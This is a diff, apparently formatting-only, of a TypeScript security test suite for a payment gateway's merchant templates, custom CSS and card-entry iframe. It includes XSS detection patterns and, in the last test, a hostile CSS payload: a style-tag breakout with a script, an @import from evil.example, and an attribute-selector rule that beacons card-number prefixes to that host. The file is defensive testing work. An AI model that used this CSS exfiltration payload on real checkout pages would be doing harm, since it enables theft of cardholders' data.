@@ -49,15 +49,22 @@ function activeContentIn(html: string, nonce: string): string[] {
   const found: string[] = [];
   for (const e of elementsOf(html)) {
     const a = e.attributes;
-    if (e.name === 'script' && !((a.src?.startsWith('/pay/assets/')) && a.nonce === nonce && e.text.trim() === '')) found.push(`<script ${JSON.stringify(a)}>${e.text.slice(0, 60)}`);
-    if (['form', 'input', 'button', 'textarea', 'select', 'object', 'embed', 'base', 'frame', 'frameset', 'svg', 'math', 'applet'].includes(e.name)) found.push(`<${e.name}>`);
+    if (e.name === 'script' && !(a.src?.startsWith('/pay/assets/') && a.nonce === nonce && e.text.trim() === ''))
+      found.push(`<script ${JSON.stringify(a)}>${e.text.slice(0, 60)}`);
+    if (['form', 'input', 'button', 'textarea', 'select', 'object', 'embed', 'base', 'frame', 'frameset', 'svg', 'math', 'applet'].includes(e.name))
+      found.push(`<${e.name}>`);
     if (e.name === 'iframe' && !(a.id === 'payment-island' && /^\/pay\/[0-9A-Za-z]{32}\/fields/.test(a.src ?? ''))) found.push(`<iframe src=${a.src ?? ''}>`);
     if (e.name === 'meta' && a['http-equiv'] !== undefined) found.push(`<meta http-equiv=${a['http-equiv']}>`);
     if (e.name === 'link' && a.href !== '/pay/assets/theme.css') found.push(`<link href=${a.href ?? ''}>`);
-    if (e.name === 'style' && (a.nonce !== nonce || /@import|url\(\s*['"]?\s*(javascript|data:text)|expression\(|<\/?style/i.test(e.text))) found.push(`<style>${e.text.slice(0, 60)}`);
+    if (e.name === 'style' && (a.nonce !== nonce || /@import|url\(\s*['"]?\s*(javascript|data:text)|expression\(|<\/?style/i.test(e.text)))
+      found.push(`<style>${e.text.slice(0, 60)}`);
     for (const [name, value] of Object.entries(a)) {
       if (/^on/.test(name)) found.push(`${e.name}[${name}]`);
-      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'dynsrc', 'lowsrc', 'poster'].includes(name) && /^\s*(javascript|vbscript|livescript|mocha):|^\s*data:(?!image\/(png|gif|jpeg|webp|avif);base64,)/i.test(value.replace(/[\u0000-\u0020]/g, ''))) found.push(`${e.name}[${name}=${value.slice(0, 40)}]`);
+      if (
+        ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'dynsrc', 'lowsrc', 'poster'].includes(name) &&
+        /^\s*(javascript|vbscript|livescript|mocha):|^\s*data:(?!image\/(png|gif|jpeg|webp|avif);base64,)/i.test(value.replace(/[\u0000-\u0020]/g, ''))
+      )
+        found.push(`${e.name}[${name}=${value.slice(0, 40)}]`);
       if (name === 'srcdoc') found.push(`${e.name}[srcdoc]`);
       if (name === 'style' && /url\(|expression|behavior|binding/i.test(value)) found.push(`${e.name}[style=${value.slice(0, 40)}]`);
       if (nonce !== '' && value.includes(nonce) && name !== 'nonce') found.push(`the nonce in ${e.name}[${name}]`);
@@ -92,7 +99,9 @@ describe('security 1: merchant templates, custom CSS and the card island (HTTP)'
 
   it('never gives a merchant template the CSP nonce', async () => {
     await put({ template: '<main><p id="leak">[{{nonce}}][{{form.token}}][{{form.action}}][{{@root.nonce}}]</p>{{> card_form}}</main>' }).expect(200);
-    const res = await request(t.gateway.app).get(await newPage()).expect(200);
+    const res = await request(t.gateway.app)
+      .get(await newPage())
+      .expect(200);
     const leak = elementsOf(res.text).find((e) => e.attributes.id === 'leak');
     assert.equal(leak?.text, '[][][][]', 'the template read nothing of the page internals');
     assert.deepEqual(activeContentIn(res.text, nonceOf(res)), []);
@@ -111,7 +120,9 @@ describe('security 1: merchant templates, custom CSS and the card island (HTTP)'
         continue;
       }
       assert.equal(res.status, 200, JSON.stringify(res.body));
-      const page = await request(t.gateway.app).get(await newPage()).expect(200);
+      const page = await request(t.gateway.app)
+        .get(await newPage())
+        .expect(200);
       for (const f of activeContentIn(page.text, nonceOf(page))) leaks.push(`line ${v.line}: ${f}`);
     }
     assert.deepEqual(leaks, [], `${leaks.length} active things reached the page`);
@@ -127,30 +138,49 @@ describe('security 1: merchant templates, custom CSS and the card island (HTTP)'
       const batch = vectors.slice(i, i + 25);
       const body = batch.map((v) => `<section>${v.text.replace(/\{\{(?![!>#/]|nonce|@)/g, '{ {')}</section>`).join('\n');
       await storeBrandingBehindTheChecks(t.gateway.db, merchantId, { template: `<main class="page">${body}{{> card_form}}</main>` });
-      const page = await request(t.gateway.app).get(await newPage()).expect(200);
+      const page = await request(t.gateway.app)
+        .get(await newPage())
+        .expect(200);
       for (const f of activeContentIn(page.text, nonceOf(page))) leaks.push(`vectors ${i}-${i + batch.length - 1}: ${f}`);
-      if (!elementsOf(page.text).some((e) => e.name === 'iframe' && e.attributes.id === 'payment-island')) leaks.push(`vectors ${i}-${i + batch.length - 1}: the island is gone`);
+      if (!elementsOf(page.text).some((e) => e.name === 'iframe' && e.attributes.id === 'payment-island'))
+        leaks.push(`vectors ${i}-${i + batch.length - 1}: the island is gone`);
     }
     // An unclosed quote or element before {{> card_form}} cannot take the card form off the page either.
     await storeBrandingBehindTheChecks(t.gateway.db, merchantId, { template: `<main class="page"><p title='{{> card_form}}</main>` });
-    const swallowed = await request(t.gateway.app).get(await newPage()).expect(200);
-    assert.ok(elementsOf(swallowed.text).some((e) => e.name === 'iframe' && e.attributes.id === 'payment-island'), 'the island survives an unclosed attribute');
+    const swallowed = await request(t.gateway.app)
+      .get(await newPage())
+      .expect(200);
+    assert.ok(
+      elementsOf(swallowed.text).some((e) => e.name === 'iframe' && e.attributes.id === 'payment-island'),
+      'the island survives an unclosed attribute',
+    );
     assert.deepEqual(leaks, []);
   });
 
   it('shows the card fields only in the island, a document of its own with a CSP that lets nothing out', async () => {
-    const res = await request(t.gateway.app).get(await newPage()).expect(200);
+    const res = await request(t.gateway.app)
+      .get(await newPage())
+      .expect(200);
     const page = elementsOf(res.text);
-    assert.deepEqual(page.filter((e) => ['form', 'input'].includes(e.name)).map((e) => e.attributes.name ?? e.name), [], 'no form or field in the page');
+    assert.deepEqual(
+      page.filter((e) => ['form', 'input'].includes(e.name)).map((e) => e.attributes.name ?? e.name),
+      [],
+      'no form or field in the page',
+    );
     const frame = page.find((e) => e.name === 'iframe' && e.attributes.id === 'payment-island');
     assert.ok(frame !== undefined, 'the page frames the island');
-    const island = await request(t.gateway.app).get(frame.attributes.src ?? '').expect(200);
+    const island = await request(t.gateway.app)
+      .get(frame.attributes.src ?? '')
+      .expect(200);
     assert.deepEqual(
-      elementsOf(island.text).filter((e) => e.name === 'input').map((e) => e.attributes.name),
+      elementsOf(island.text)
+        .filter((e) => e.name === 'input')
+        .map((e) => e.attributes.name),
       ['form_token', 'number', 'expiry', 'cvc', 'holder_name'],
     );
     const csp = String(island.headers['content-security-policy']);
-    for (const directive of ["default-src 'none'", "img-src 'self';", "connect-src 'none'", "form-action 'self'", "frame-ancestors 'self'", "base-uri 'none'"]) assert.ok(csp.includes(directive), `${directive} in ${csp}`);
+    for (const directive of ["default-src 'none'", "img-src 'self';", "connect-src 'none'", "form-action 'self'", "frame-ancestors 'self'", "base-uri 'none'"])
+      assert.ok(csp.includes(directive), `${directive} in ${csp}`);
     assert.match(csp, /script-src 'nonce-[^' ]+';/);
     assert.doesNotMatch(csp, /https:|data:|unsafe/);
     assert.doesNotMatch(String(res.headers['content-security-policy']), /unsafe|script-src[^;]*https:/);
@@ -159,12 +189,19 @@ describe('security 1: merchant templates, custom CSS and the card island (HTTP)'
   it("takes the island's sealed error state only for its own payment and never with card data in it", async () => {
     const first = await newPage();
     const other = await newPage();
-    const res = await request(t.gateway.app).post(first).type('form').send({ form_token: 'x'.repeat(76), number: '4242424242424241', expiry: '12/40', cvc: '7319', holder_name: 'Ann Buyer' });
+    const res = await request(t.gateway.app)
+      .post(first)
+      .type('form')
+      .send({ form_token: 'x'.repeat(76), number: '4242424242424241', expiry: '12/40', cvc: '7319', holder_name: 'Ann Buyer' });
     // A forged form token is sent back to the page (303); a real one with a bad number gets the 422 with the sealed state.
     const island = await request(t.gateway.app).get(`${first}/fields`).expect(200);
     const token = /name="form_token" value="([0-9a-f]{76})"/.exec(island.text)?.[1] ?? '';
     assert.equal(res.status, 303);
-    const refused = await request(t.gateway.app).post(first).type('form').send({ form_token: token, number: '4242424242424241', expiry: '12/40', cvc: '7319', holder_name: 'Ann Buyer' }).expect(422);
+    const refused = await request(t.gateway.app)
+      .post(first)
+      .type('form')
+      .send({ form_token: token, number: '4242424242424241', expiry: '12/40', cvc: '7319', holder_name: 'Ann Buyer' })
+      .expect(422);
     const src = (/id="payment-island" src="([^"]+)"/.exec(refused.text)?.[1] ?? '').replace(/&amp;/g, '&').replace(/&#x3D;/g, '=');
     assert.match(src, /\/fields\?state=[A-Za-z0-9_-]+$/);
     assert.doesNotMatch(src, /4242|7319|Ann/);
@@ -180,7 +217,11 @@ describe('security 1: merchant templates, custom CSS and the card island (HTTP)'
   });
 
   it('parses custom CSS: https images in backgrounds and media queries pass; imports, escapes, attribute selectors and other URLs do not', async () => {
-    for (const css of ['.page { background: url(https://cdn.shop.example/bg.png) no-repeat; }', '@media (min-width: 600px) { .page { padding: 40px } }', '.order-description:hover { opacity: 0.9; color: rgb(10 20 30) }']) {
+    for (const css of [
+      '.page { background: url(https://cdn.shop.example/bg.png) no-repeat; }',
+      '@media (min-width: 600px) { .page { padding: 40px } }',
+      '.order-description:hover { opacity: 0.9; color: rgb(10 20 30) }',
+    ]) {
       const res = await put({ custom_css: css });
       assert.equal(res.status, 200, `${css}: ${JSON.stringify(res.body)}`);
     }
@@ -213,8 +254,13 @@ describe('security 1: merchant templates, custom CSS and the card island (HTTP)'
   });
 
   it('drops what is not allowed from stored CSS when it renders, so nothing leaves the <style>', async () => {
-    await storeBrandingBehindTheChecks(t.gateway.db, merchantId, { customCss: '.a { color: red }\n</style><script>alert(1)</script><style>\n@import "https://evil.example/x.css";\ninput[value^="4"] { background: url(https://evil.example/4.gif) }' });
-    const res = await request(t.gateway.app).get(await newPage()).expect(200);
+    await storeBrandingBehindTheChecks(t.gateway.db, merchantId, {
+      customCss:
+        '.a { color: red }\n</style><script>alert(1)</script><style>\n@import "https://evil.example/x.css";\ninput[value^="4"] { background: url(https://evil.example/4.gif) }',
+    });
+    const res = await request(t.gateway.app)
+      .get(await newPage())
+      .expect(200);
     assert.deepEqual(activeContentIn(res.text, nonceOf(res)), []);
     const style = elementsOf(res.text).find((e) => e.name === 'style');
     assert.doesNotMatch(style?.text ?? '', /evil\.example|import|value/);
